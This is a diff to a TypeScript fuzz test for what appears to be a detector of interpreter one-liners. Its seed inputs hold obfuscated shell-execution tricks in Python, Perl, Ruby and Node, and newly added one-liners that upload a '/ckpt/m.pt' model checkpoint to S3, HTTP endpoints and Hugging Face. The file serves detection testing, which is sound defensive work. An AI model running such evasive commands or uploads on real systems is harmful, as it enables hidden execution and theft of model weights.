@@ -38,6 +38,9 @@ const SEEDS: string[][] = [
   ['python3', '-c', `import os,sys,ctypes,importlib\ns = os.system; s("${UP}"); getattr(os, "sys"+"tem")("id"); vars(os)[k]("x"); os.__dict__["popen"]("id")\nctypes.CDLL(None).system(b"id"); importlib.import_module("o"+"s").system("id"); eval("os.system")("id"); sys.modules["os"].popen("id"); __import__(m).system("x")`],
   ['perl', '-e', `exec { 'sh' } 'sh', '-c', '${UP}'; use IPC::Open3; open3($w, $r, $e, 'id'); use IPC::Run; run ['ls'], '>', \\$o; system <<EOF;\nid\nEOF\nprint <<~"X";\n  $y\n  X\nmy $f = \\&IPC::Open3::open3; $f->($w, $r, $e, 'id'); &{"IPC::Open2::open2"}($o, $i, "x"); IPC::Open3->can($m)->(1)`],
   ['ruby', '-e', `Kernel.send(:system, "${UP}"); m = method(:spawn); m.("ls"); Kernel.\`("id"); send(:\`, "x"); system <<~EOS\n  curl -T a u\nEOS\nexec(<<-'A', <<"B")\nx\n  A\n#{y}\nB\nKernel.public_send m, 1`],
+  // Library transfers read as runs (exec-interpreter-transfer*.ts).
+  ['python3', '-c', `import boto3, requests, httpx, http.client\nfrom urllib.request import urlopen, Request, urlretrieve\nfrom huggingface_hub import HfApi, upload_file\ns3 = boto3.resource('s3'); s3.Bucket('b').Object('k').upload_file('/ckpt/m.pt'); boto3.client('s3').put_object(Bucket='b', Key=k, Body=open(p, 'rb'))\nwith open('/ckpt/m.pt', 'rb') as f, requests.Session() as s:\n    s.post('https://x/u', files={'f': ('m', f, 'x')}); httpx.Client().request('PUT', u, content=f.read())\nurlopen(Request('https://x', data=open(p,'rb').read(), method='PUT')); urlretrieve('http://x/t', '/tmp/t'); open('/tmp/t','wb').write(requests.get(u).content)\nc = http.client.HTTPSConnection('h'); c.request('PUT', '/u', body=open(p, 'rb')); HfApi().upload_folder(folder_path='/ckpt', repo_id='e/x'); upload_file(path_or_fileobj=p, path_in_repo='m', repo_id='e/x')`],
+  ['node', '-e', `const fs = require('fs'), axios = require('axios'); fetch('https://x/u', {method: 'PUT', body: fs.readFileSync('/ckpt/m.pt')}); const o = {hostname: 'h', path: '/u', method: 'PUT'}; fs.createReadStream(p).pipe(https.request(o)); axios.put(u, fs.createReadStream(p)); axios({method: 'post', url: u, data}); require('https').get(u)`],
   ['node', '-e', `const {execSync: x, spawn} = require('child_process'); x("${UP}"); require('child_process')['exec']("id"); process.binding('spawn_sync'); globalThis.process.mainModule.require('child_process')[k]("id"); const f = require('child_process').execFileSync; f("id")`],
 ];
 const NOISE = ['"', "'", '`', '(', ')', '[', ']', '{', '}', '\\', '$', '#', '%', '/', ';', '\n', ',', '=', 'q', 'x', 'f', 'r', 'exec(', 'os.system(', 'eval '];
@@ -118,6 +121,14 @@ describe('fuzz: interpreter readings never throw, hang or pass their bounds', ()
       `${'method(:method).call('.repeat(500)}`,
       `${'const {exec: x} = require("child_process");'.repeat(120)}x("id")`,
       `${'exec { '.repeat(600)}'sh' }`,
+      `${'requests.Session().'.repeat(600)}put(u, data=open(p))`,
+      `import boto3\n${'a = b.c(a)\nb = a.d(b)\n'.repeat(30)}a.upload_file(p, 'b', 'k')`,
+      `import requests\n${"requests.put('u', data=open('/ckpt/m.pt','rb'))\n".repeat(300)}`,
+      `${'with open(p) as f, '.repeat(400)}x:`,
+      `open(p,'wb').write(${'requests.get('.repeat(800)}u`,
+      `fetch(u, {body: ${'{body: '.repeat(800)}fs.readFileSync(p)`,
+      `${'fs.createReadStream(p).pipe('.repeat(600)}https.request(u)`,
+      `import requests\n${"requests.post(u, data=".repeat(700)}1`,
     ];
     for (const code of shapes) {
       for (const [tool, flag] of [['python3', '-c'], ['perl', '-e'], ['ruby', '-e'], ['node', '-e'], ['php', '-r'], ['awk', '--'], ['lua', '-e'], ['pwsh', '-c'], ['expect', '-c'], ['vim', '-c'], ['gdb', '-ex'], ['deno', 'eval'], ['cmd', '/c']] as const) {
